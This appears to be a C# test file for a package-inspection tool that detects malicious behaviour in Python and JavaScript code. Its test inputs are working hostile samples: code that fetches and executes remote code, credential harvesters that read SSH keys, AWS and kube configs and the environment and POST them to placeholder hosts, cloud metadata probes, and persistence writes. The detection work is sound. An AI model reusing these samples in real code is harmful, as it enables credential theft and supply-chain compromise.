using PackageWall.Inspection.Facts;

namespace PackageWall.Inspection.Tests.Languages.Evaluation;

/// <summary>What flows into what.</summary>
public sealed class FlowTests
{
    [Theory]
    [InlineData("import urllib.request\nexec(urllib.request.urlopen('https://a.invalid').read())")]
    [InlineData("from urllib.request import urlopen as u\nwith u('https://a.invalid') as r:\n    exec(r.read().decode())")]
    [InlineData("import requests\ncode = requests.get('https://a.invalid').text\nexec(compile(code, 'x', 'exec'))")]
    [InlineData("import requests\ndef get(u):\n    return requests.get(u).text\ndef run(c):\n    exec(c)\nrun(get('https://a.invalid'))")]
    [InlineData("import requests\nclass A:\n    def load(self):\n        self.c = requests.get('https://a.invalid').text\n    def go(self):\n        exec(self.c)\na = A()\na.load()\na.go()")]
    [InlineData("import requests\nx = None\ndef a():\n    global x\n    x = requests.get('https://a.invalid').text\ndef b():\n    exec(x)\na()\nb()")]
    [InlineData("import http.client\nc = http.client.HTTPSConnection('a.invalid')\nc.request('GET', '/')\nexec(c.getresponse().read())")]
    [InlineData("import subprocess, sys, requests\nsubprocess.run([sys.executable, '-c', requests.get('https://a.invalid').text])")]
    public void Python_fetched_code_runs(string text)
    {
        var facts = Read.Python(text);
        facts.One("execute.code").From.ShouldContain("network.fetch", facts.Names());
        facts.Has("dynamic.exec").ShouldBeTrue();
    }

    [Theory]
    [InlineData("require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); })")]
    [InlineData("fetch('https://a.invalid').then(r => r.text()).then(eval)")]
    [InlineData("(async () => { const r = await fetch('https://a.invalid'); eval(await r.text()); })()")]
    [InlineData("require('axios').get('https://a.invalid').then(({ data }) => new Function('require', data)(require))")]
    [InlineData("const get = u => fetch(u).then(r => r.json()); get('https://a.invalid').then(j => eval(j.cookie))")]
    public void Script_fetched_code_runs(string text)
    {
        var facts = Read.Script(text);
        facts.One("execute.code").From.ShouldContain("network.fetch", facts.Names());
    }

    [Fact]
    public void Plain_harvest_is_seen_with_all_that_it_sends()
    {
        var facts = Read.Python("""
            import os, json, socket, subprocess
            from urllib import request
            from pathlib import Path

            def _read(path):
                try:
                    with open(os.path.expanduser(path)) as f:
                        return f.read()
                except Exception:
                    return None

            def _check_compatibility():
                data = {"host": socket.gethostname(), "env": dict(os.environ)}
                for name in ("id_rsa", "id_ed25519"):
                    data[name] = _read("~/.ssh/" + name)
                data["aws"] = _read("~/.aws/credentials")
                data["kube"] = (Path.home() / ".kube" / "config").read_text()
                req = request.Request("https://metrics.collector.invalid/v1/collect", data=json.dumps(data).encode(), method="POST")
                request.urlopen(req, timeout=3)

            _check_compatibility()
            """);

        foreach (var fact in new[] { "read.secret.ssh", "read.secret.cloud", "read.secret.kubernetes", "read.env.bulk", "read.profile" })
        {
            facts.Has(fact).ShouldBeTrue($"{fact} is not among {facts.Names()}");
        }

        var send = facts.One("network.send");
        send.Value.ShouldBe("https://metrics.collector.invalid/v1/collect");
        send.From.ShouldContain("read.secret.ssh");
        send.From.ShouldContain("read.secret.cloud");
        send.From.ShouldContain("read.secret.kubernetes");
        send.From.ShouldContain("read.env.bulk");
        facts.Calls.ShouldContain(("", "_check_compatibility"));
        facts.Calls.ShouldContain(("_check_compatibility", "_read"));
    }

    [Fact]
    public void A_list_of_places_longer_than_the_candidates_loses_none()
    {
        var facts = Read.Script("""
            const fs = require('fs'), os = require('os'), path = require('path');
            const wanted = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', '.kube/config', '.docker/config.json', '.git-credentials', '.bash_history', '.pgpass'];
            function take(name) { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); }
            const all = wanted.map(take);
            fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) });
            """);

        var families = facts.Facts.Where(fact => fact.Name.StartsWith("read.secret.", StringComparison.Ordinal)).Select(fact => fact.Family).Distinct().Order();
        families.ShouldBe(["cloud", "database", "docker", "git", "history", "kubernetes", "registry", "ssh"]);
        facts.One("network.send").From.Count(name => name.StartsWith("read.secret.", StringComparison.Ordinal)).ShouldBe(8);
    }

    [Fact]
    public void The_environment_given_to_a_child_is_not_read()
    {
        var facts = Read.Python("import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.check_call(['make'], env=env)");
        facts.Has("read.env.bulk").ShouldBeFalse();
        Read.Python("import os\nimport x\nx.debug = 'DEBUG' in os.environ\nx.run(x.debug, os.environ['A'])").Has("read.env.bulk").ShouldBeFalse();
        Read.Script("require('child_process').spawn('make', [], { env: { ...process.env, A: 'b' } })").Has("read.env.bulk").ShouldBeFalse();
    }

    [Theory]
    [InlineData("JSON.stringify(process.env)")]
    [InlineData("Object.entries(process.env).map(([k, v]) => k + '=' + v).join(';')")]
    [InlineData("Buffer.from(JSON.stringify({ ...process.env })).toString('base64')")]
    public void The_environment_that_is_sent_is_read_in_bulk(string expression)
    {
        var facts = Read.Script($"fetch('https://a.invalid/?q=' + encodeURIComponent({expression}))");
        facts.Has("read.env.bulk").ShouldBeTrue(facts.Names());
        facts.One("network.send").From.ShouldContain("read.env.bulk");
    }

    [Fact]
    public void Methods_constructors_and_decorators_are_calls()
    {
        var facts = Read.Python("""
            import os
            def deco(f):
                helper()
                return f
            def helper(): os.system("true")
            class A:
                def __init__(self): self.b()
                def b(self): pass
            @deco
            def late(): pass
            A()
            if __name__ == "__main__":
                late()
            """);

        facts.Calls.ShouldContain(("", "deco"));
        facts.Calls.ShouldContain(("deco", "helper"));
        facts.Calls.ShouldContain(("", "A.__init__"));
        facts.Calls.ShouldContain(("A.__init__", "A.b"));
        facts.Calls.ShouldContain(("if __main__", "late"));
    }

    [Fact]
    public void Install_commands_of_setup_run_at_the_top()
    {
        var facts = Read.Python("""
            import os
            from setuptools import setup
            from setuptools.command.install import install
            class Post(install):
                def run(self):
                    install.run(self)
                    os.system("echo hi")
            setup(name="x", cmdclass={"install": Post})
            """);

        facts.One("execute.shell").Unit.ShouldBe("Post.run");
        facts.Calls.ShouldContain(("", "Post.run"));
    }

    [Fact]
    public void Threads_and_exit_handlers_run_what_they_are_given()
    {
        var facts = Read.Python("import threading, atexit\ndef a(): pass\ndef b(): pass\nthreading.Thread(target=a, daemon=True).start()\natexit.register(b)");
        facts.Calls.ShouldContain(("", "a"));
        facts.Calls.ShouldContain(("", "b"));
    }

    [Fact]
    public void Files_that_are_named_become_references()
    {
        var facts = Read.Script("""
            const path = require('path');
            require('./lib/a');
            require('child_process').spawn('node', [path.join(__dirname, 'tools', 'run.js')]);
            require('fs').readFileSync(path.join(__dirname, 'data.bin'));
            """);

        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Import && reference.Target == "./lib/a");
        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Spawn && reference.Target == "./tools/run.js");
        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Open && reference.Target == "./data.bin");
    }

    [Fact]
    public void Places_that_are_only_named_are_mentioned()
    {
        var facts = Read.Python("KEYS = ['~/.ssh/id_rsa']");
        facts.Has("read.secret.ssh").ShouldBeFalse();
        facts.One("mention.secret.ssh").Value.ShouldBe("~/.ssh/id_rsa");
    }

    [Theory]
    [InlineData("http://0xA9FEA9FE/latest/meta-data/")]
    [InlineData("http://2852039166/latest/meta-data/")]
    [InlineData("http://0251.0376.0251.0376/")]
    [InlineData("http://169.254.169.254/latest/api/token")]
    [InlineData("http://metadata.google.internal/computeMetadata/v1/")]
    public void Metadata_services_are_known_in_any_spelling(string url) =>
        Read.Python($"import requests\nrequests.get('{url}')").Has("read.secret.metadata").ShouldBeTrue();

    [Fact]
    public void Persistence_is_seen_where_it_is_written()
    {
        var facts = Read.Python("import os, site\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nopen(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w')");
        facts.One("persist.shell-profile").Value.ShouldBe("~/.bashrc");
        facts.Has("persist.site-packages").ShouldBeTrue(facts.Names());
        Read.Script("require('fs').writeFileSync('.github/workflows/x.yml', 'a')").Has("persist.workflow").ShouldBeTrue();
    }

    [Fact]
    public void Replaced_network_functions_and_lists_of_wallets_are_seen()
    {
        var facts = Read.Script("""
            const patterns = [/0x[a-fA-F0-9]{40}/g, /\bbc1[a-z0-9]{25,39}\b/g];
            const original = window.fetch;
            window.fetch = async function (...args) { const r = await original(...args); return r; };
            """);
        facts.Has("hook.network").ShouldBeTrue(facts.Names());
        facts.Has("wallet.addresses").ShouldBeTrue(facts.Names());
        Read.Script("const thanks = '0x1111111111111111111111111111111111111111';").Has("wallet.addresses").ShouldBeFalse();
    }

    [Theory]
    [InlineData("Object.keys(process.env).forEach(k => { all += k + process.env[k] })", true)]
    [InlineData("for (const k of Object.keys(process.env)) all += process.env[k]", true)]
    [InlineData("Object.keys(process.env).filter(k => /token|key/i.test(k)).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).map(k => process.env[k])", true)]
    [InlineData("JSON.stringify(Object.entries(process.env))", true)]
    [InlineData("Object.keys(process.env).filter(function (key) { return /^debug_/i.test(key) }).reduce(function (o, key) { o[key] = process.env[key]; return o }, {})", false)]
    [InlineData("Object.keys(process.env).filter(k => k.startsWith('SAMPLE_')).forEach(k => { all += process.env[k] })", false)]
    [InlineData("Object.keys(process.env).filter(k => /^sample_/i.test(k)).forEach(k => { all += process.env[k] })", false)]
    [InlineData("Object.keys(process.env).filter(function (k) { return /^SAMPLE_/.test(k); }).forEach(k => { all += process.env[k] })", false)]
    [InlineData("Object.keys(process.env).filter(k => !k.startsWith('SAMPLE_')).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => k.startsWith('')).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => k.startsWith('AWS_')).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => k.startsWith('npm_')).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => /.*/.test(k)).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => /^SAMPLE_/.test(other)).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => k.startsWith('SAMPLE_') || true).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(k => k.startsWith(x)).forEach(k => { all += process.env[k] })", true)]
    [InlineData("Object.keys(process.env).filter(...tests).forEach(k => { all += process.env[k] })", true)]
    [InlineData("console.log(Object.keys(process.env).length)", false)]
    public void Whoever_picks_variables_by_how_they_begin_does_not_read_all_of_them(string code, bool isAll) =>
        Read.Script("let all = ''; " + code).Has("read.env.bulk").ShouldBe(isAll);

    [Theory]
    [InlineData("require('fs').readFileSync('/mnt/c/Program Files/Google/Chrome/Application/chrome.exe')", false)]
    [InlineData("require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Default/Login Data')", true)]
    [InlineData("const places = new Map([['a', '/home/x/.config/google-chrome']]); places.size", false)]
    public void A_program_of_a_browser_is_not_its_store_and_a_list_of_stores_is_not_read(string code, bool isRead) =>
        Read.Script(code).Has("read.secret.browser").ShouldBe(isRead);

    [Theory]
    [InlineData("require('http').get('http://2852039166/x')", true)]
    [InlineData("require('http').get({ host: '1254401111' })", true)]
    [InlineData("const size = '1254401111'; require('http').request(x(size))", false)]
    public void A_number_is_an_address_where_one_is_expected(string code, bool isAddress) =>
        (Read.Script(code).Has("network.address") || Read.Script(code).Has("read.secret.metadata") || Read.Script(code).Facts.Any(fact => fact.Name.StartsWith("read.secret", StringComparison.Ordinal))).ShouldBe(isAddress);

    [Theory]
    [InlineData("require('net').connect(443, 'x.invalid')", "x.invalid:443")]
    [InlineData("require('net').createConnection(8080, '127.0.0.1')", "127.0.0.1:8080")]
    [InlineData("require('net').createConnection(port, '127.0.0.1')", null)]
    [InlineData("require('net').createConnection({ host: 'x.invalid', port: 1 }, 'localhost')", "https://x.invalid:1")]
    public void A_socket_names_its_far_end(string code, string? end) =>
        Read.Script(code).Facts.First(fact => fact.Name == "network.socket").Value.ShouldBe(end);

    [Theory]
    [InlineData("fetch('http://localhost:3000/x', { method: 'POST', body: 'x' })")]
    [InlineData("fetch(u || 'http://localhost/x', { method: 'POST', body: 'x' })")]
    public void What_is_sent_is_sent_wherever_it_goes(string code) => Read.Script(code).Has("network.send").ShouldBeTrue(Read.Script(code).Names());

    [Theory]
    [InlineData("setTimeout(code)", true)]
    [InlineData("setInterval(code, 10)", true)]
    [InlineData("queueMicrotask(code)", false)]
    [InlineData("setImmediate(code)", false)]
    [InlineData("process.nextTick(code)", false)]
    public void Timers_run_text_as_code_and_queues_do_not(string call, bool runs) =>
        Read.Script($"async function f() {{ const code = await (await fetch('https://x.invalid/y')).text(); {call} }} f()").Has("execute.code").ShouldBe(runs);

    [Theory]
    [InlineData("t", "./x.txt")]
    [InlineData("t.split('').reverse().join('')", null)]
    [InlineData("t.slice(10)", null)]
    [InlineData("t.replace('a', 'b')", null)]
    [InlineData("t.replaceAll('#', '')", null)]
    [InlineData("t + ';'", null)]
    [InlineData("`${t}`", null)]
    [InlineData("[...t].map(x => x).join('')", null)]
    [InlineData("change(t)", null)]
    [InlineData("Buffer.from(t, 'base64').toString()", null)]
    [InlineData("t.trim().padEnd(3)", null)]
    [InlineData("t.toUpperCase()", null)]
    [InlineData("t.normalize('NFKC')", null)]
    [InlineData("decodeURIComponent(t)", null)]
    [InlineData("t.split('\\n')[1]", null)]
    [InlineData("t.x", null)]
    [InlineData("t.valueOf().concat('x')", null)]
    public void Only_a_whole_file_that_runs_as_it_is_is_named(string code, string? file) =>
        Read.Script($"const t = require('fs').readFileSync(__dirname + '/x.txt', 'utf8'); eval({code});").Facts.Where(fact => fact.Name == "dynamic.exec").Select(fact => fact.Value).ShouldBe([file]);

    [Fact]
    public void One_of_two_files_is_none_that_is_known() =>
        Read.Script("let t = require('fs').readFileSync(__dirname + '/x.txt', 'utf8'); if (process.argv[2]) { t = require('fs').readFileSync(__dirname + '/y.txt', 'utf8'); } eval(t);")
            .Facts.First(fact => fact.Name == "dynamic.exec").Value.ShouldBeNull();
}
